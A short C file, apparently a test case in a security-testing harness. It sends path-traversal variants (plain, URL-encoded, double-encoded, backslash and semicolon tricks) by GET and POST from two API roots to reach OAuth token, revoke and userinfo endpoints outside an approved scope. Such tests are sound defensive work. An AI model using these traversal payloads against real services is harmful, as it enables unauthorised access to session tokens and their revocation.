// Asks for the place where sessions are made and revoked, from either API root.

#include "attacker.h"

APPROVED_FOR({ GET, DATA, "**" }, { POST, DATA, "**" }, { GET, APEXREST, "**" }, { POST, APEXREST, "**" })

static const char *const ways[] = {
	"../oauth2/token", "../../oauth2/token", "../../services/oauth2/token", "%2e%2e/oauth2/revoke", "..%2foauth2/token", "\\oauth2/token",
	"v60.0/../../oauth2/userinfo", "x;/../../oauth2/token", "%252e%252e/oauth2/token",
};

void attack(void)
{
	for (size_t i = 0; i < sizeof ways / sizeof *ways; i++)
		for (uint8_t root = DATA; root <= APEXREST; root++)
			for (uint8_t method = GET; method <= POST; method += POST - GET) {
				begin(method, root);
				path(ways[i]);
				send();
			}
}
